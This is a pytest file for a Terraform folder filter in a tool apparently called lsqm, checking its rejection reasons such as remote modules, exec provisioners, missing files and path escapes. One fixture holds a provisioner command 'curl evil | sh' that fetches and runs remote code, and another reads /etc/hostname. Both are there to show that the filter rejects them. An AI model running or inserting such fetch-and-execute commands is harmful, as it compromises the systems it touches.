"""The standalone filter on real folders: every reason code, with all reasons collected."""

from __future__ import annotations

from pathlib import Path

from lsqm.config import DiscoverySettings
from lsqm.discovery.filter import Policy, evaluate
from lsqm.terraform.inventory import service_of
from tests.discovery.helpers import S3_TF, write_tree


def codes(folder: Path, root: Path | None = None, policy: Policy | None = None) -> set[str]:
    return {r.code.value for r in evaluate(folder, root or folder, policy).reasons}


def test_plain_aws_folder_is_accepted(tmp_path: Path) -> None:
    write_tree(tmp_path, {"main.tf": S3_TF, "README.md": "hi"})
    decision = evaluate(tmp_path, tmp_path)
    assert decision.accepted, decision.reasons
    assert decision.inventory.services == ["s3"]
    assert decision.inventory.resource_types == ["aws_s3_bucket"]
    assert decision.to_json()["accepted"] is True


def test_no_aws_resources(tmp_path: Path) -> None:
    write_tree(tmp_path, {"main.tf": 'output "x" { value = 1 }\n'})
    assert codes(tmp_path) == {"no_aws_resources"}


def test_required_variable_and_tfvars(tmp_path: Path) -> None:
    write_tree(tmp_path, {"main.tf": S3_TF + 'variable "a" {}\nvariable "b" {}\n'
                          'variable "c" { default = null }\n',
                          "terraform.tfvars": 'a = "x"\n'})  # fmt: skip
    reasons = evaluate(tmp_path, tmp_path).reasons
    assert [(r.code.value, '"b"' in r.detail) for r in reasons] == [("required_variable", True)]


def test_all_reasons_are_recorded(tmp_path: Path) -> None:
    write_tree(
        tmp_path,
        {
            "main.tf": S3_TF
            + """
module "vpc" { source = "terraform-aws-modules/vpc/aws" }
module "g" { source = "git::https://example.com/x.git" }
data "terraform_remote_state" "net" { backend = "s3" }
data "template_file" "t" { template = "x" }
resource "null_resource" "n" {
  provisioner "local-exec" { command = "curl evil | sh" }
}
data "external" "e" { program = ["sh"] }
resource "aws_lambda_function" "f" {
  filename = "missing.zip"
  source_code_hash = filebase64sha256("${path.module}/missing.zip")
}
resource "aws_cognito_user_pool" "pool" { name = "x" }
terraform {
  backend "s3" { bucket = "state" }
}
"""
        },
    )
    found = codes(tmp_path)
    assert found == {
        "remote_module", "remote_state", "provider_not_allowed", "exec_not_allowed",
        "missing_file", "remote_backend",
    }  # fmt: skip
    reasons = evaluate(tmp_path, tmp_path).reasons
    assert sum(r.code.value == "remote_module" for r in reasons) == 2
    skip = Policy(skip_unsupported_services=True)
    assert codes(tmp_path, policy=skip) == found | {"service_not_supported"}


def test_exec_allowed_by_setting(tmp_path: Path) -> None:
    write_tree(tmp_path, {"main.tf": S3_TF + 'resource "aws_sqs_queue" "q" {\n'
                          '  provisioner "local-exec" { command = "echo" }\n}\n'})  # fmt: skip
    assert codes(tmp_path) == {"exec_not_allowed"}
    assert codes(tmp_path, policy=Policy(allow_exec=True)) == set()


def test_parse_error_is_a_reason_not_a_crash(tmp_path: Path) -> None:
    write_tree(tmp_path, {"main.tf": S3_TF, "broken.tf": 'resource "aws_s3_bucket" "x" {\n'})
    reasons = evaluate(tmp_path, tmp_path).reasons
    assert [r.code.value for r in reasons] == ["parse_error"]
    assert "broken.tf" in reasons[0].detail


def test_files_that_exist_or_are_produced_pass(tmp_path: Path) -> None:
    write_tree(tmp_path, {
        "main.tf": """
data "archive_file" "zip" {
  type        = "zip"
  source_file = "${path.module}/src/handler.py"
  output_path = "${path.module}/build/handler.zip"
}
resource "aws_lambda_function" "f" {
  filename         = data.archive_file.zip.output_path
  source_code_hash = filebase64sha256("${path.module}/build/handler.zip")
  function_name = "f"
  role          = "arn:aws:iam::000000000000:role/r"
  handler       = "handler.main"
  runtime       = "python3.12"
}
resource "aws_s3_object" "o" {
  bucket = "b"
  key    = "k"
  source = "site/index.html"
  etag   = filemd5("site/index.html")
}
resource "aws_sqs_queue" "q" { policy = templatefile("${path.root}/policy.json.tpl", {}) }
""",
        "src/handler.py": "def main(e, c): return 1\n",
        "site/index.html": "<p>hi</p>",
        "policy.json.tpl": "{}",
    })  # fmt: skip
    # archive_file comes from the hashicorp/archive provider: allowed here to isolate files
    decision = evaluate(tmp_path, tmp_path, Policy(allowed_providers=frozenset({"aws", "archive"})))
    assert decision.accepted, decision.reasons
    kept = {p.relative_to(tmp_path).as_posix() for p in decision.files}
    assert {"src/handler.py", "site/index.html", "policy.json.tpl", "main.tf"} <= kept


def test_local_modules_are_followed_and_kept(tmp_path: Path) -> None:
    """terraform-aws-modules layout: examples/complete calls the module at ../.."""
    write_tree(tmp_path, {
        "main.tf": 'variable "name" {}\nresource "aws_sqs_queue" "q" { name = var.name }\n',
        "examples/complete/main.tf": 'module "q" {\n  source = "../.."\n  name = "x"\n}\n',
        "examples/broken/main.tf": 'module "q" {\n  source = "../.."\n}\n',
        "examples/gone/main.tf": 'module "q" {\n  source = "../../nothing"\n}\n',
    })  # fmt: skip
    ok = evaluate(tmp_path / "examples/complete", tmp_path)
    assert ok.accepted, ok.reasons
    assert [ok.rel(m) for m in ok.module_dirs] == ["."]
    assert ok.inventory.services == ["sqs"]
    assert codes(tmp_path / "examples/broken", tmp_path) == {"required_variable"}
    assert codes(tmp_path / "examples/gone", tmp_path) == {"missing_file", "no_aws_resources"}
    # the module root alone needs its variable
    assert codes(tmp_path, tmp_path) == {"required_variable"}


def test_services_outside_the_emulator_are_kept_and_recorded(tmp_path: Path) -> None:
    """The gaps lsqm exists to measure: kept by default, named, skipped only when asked."""
    write_tree(tmp_path, {"main.tf": 'resource "aws_msk_cluster" "k" {}\n' + S3_TF
                          + 'data "aws_canonical_user_id" "me" {}\n'})  # fmt: skip
    kept = evaluate(tmp_path, tmp_path)
    assert kept.accepted, kept.reasons
    assert kept.inventory.services == ["kafka", "s3"]
    assert kept.unsupported == {"kafka": ["aws_msk_cluster"]}
    assert kept.to_json()["unsupported_services"] == {"kafka": ["aws_msk_cluster"]}
    skipped = evaluate(tmp_path, tmp_path, Policy(skip_unsupported_services=True))
    assert [(r.code.value, r.detail) for r in skipped.reasons] == [
        ("service_not_supported", "kafka (aws_msk_cluster) is not offered by the target emulator")
    ]
    listed = Policy(supported_services=frozenset({"kafka", "s3"}), skip_unsupported_services=True)
    assert codes(tmp_path, policy=listed) == set()
    assert evaluate(tmp_path, tmp_path, listed).unsupported == {}


def test_skipping_services_is_a_setting_off_by_default() -> None:
    assert DiscoverySettings().skip_unsupported_services is False
    assert Policy.from_settings(DiscoverySettings()) == Policy()
    assert Policy.from_settings(DiscoverySettings(skip_unsupported_services=True)) == Policy(
        skip_unsupported_services=True
    )


def test_service_names() -> None:
    assert service_of("aws_sfn_state_machine") == "stepfunctions"
    assert service_of("aws_cloudwatch_event_rule") == "events"
    assert service_of("aws_cloudwatch_log_group") == "logs"
    assert service_of("aws_cloudwatch_metric_alarm") == "cloudwatch"
    assert service_of("aws_route53_zone") == "route53"
    assert service_of("aws_route_table") == "ec2"
    assert service_of("aws_lb_listener") == "elbv2"
    assert service_of("aws_lambda_function") == "lambda"
    assert service_of("aws_kinesis_firehose_delivery_stream") == "firehose"
    assert service_of("aws_cognito_user_pool") == "cognito-idp"
    assert service_of("aws_iam_policy_document") is None
    assert service_of("random_pet") is None


UTILITIES_TF = """
resource "random_pet" "p" {}
resource "null_resource" "n" {}
resource "time_sleep" "t" { create_duration = "1s" }
resource "tls_private_key" "k" { algorithm = "RSA" }
resource "local_file" "out" {
  filename = "${path.module}/build/out.txt"
  content  = random_pet.p.id
}
data "archive_file" "zip" {
  type        = "zip"
  source_file = "${path.module}/build/out.txt"
  output_path = "${path.module}/build/out.zip"
}
resource "aws_sqs_queue" "q" { name = random_pet.p.id }
"""


def test_hashicorp_utility_providers_are_allowed_by_default(tmp_path: Path) -> None:
    write_tree(tmp_path, {"main.tf": UTILITIES_TF})
    decision = evaluate(tmp_path, tmp_path)
    assert decision.accepted, decision.reasons
    assert decision.inventory.providers == ["archive", "aws", "local", "null", "random", "time",
                                            "tls"]  # fmt: skip
    only_aws = Policy.from_settings(DiscoverySettings(allowed_providers=["aws"]))
    assert codes(tmp_path, policy=only_aws) == {"provider_not_allowed"}
    assert DiscoverySettings().allowed_providers == [
        "aws", "archive", "local", "null", "random", "time", "tls",
    ]  # fmt: skip


def test_a_local_file_data_source_reads_its_filename(tmp_path: Path) -> None:
    """local_file the resource writes ``filename``; local_file the data source reads it."""
    repo = tmp_path / "repo"
    write_tree(repo, {"app/main.tf": S3_TF + """
data "local_file" "gone" { filename = "${path.module}/gone.txt" }
data "local_file" "host" { filename = "/etc/hostname" }
data "local_file" "here" { filename = "${path.module}/here.txt" }
""", "app/here.txt": "hi"})  # fmt: skip
    reasons = evaluate(repo / "app", repo).reasons
    assert sorted((r.code.value, r.detail.split(" ", 1)[1]) for r in reasons) == [
        ("missing_file", "filename needs ${path.module}/gone.txt"),
        ("path_escape", "filename reads /etc/hostname outside"),
    ]
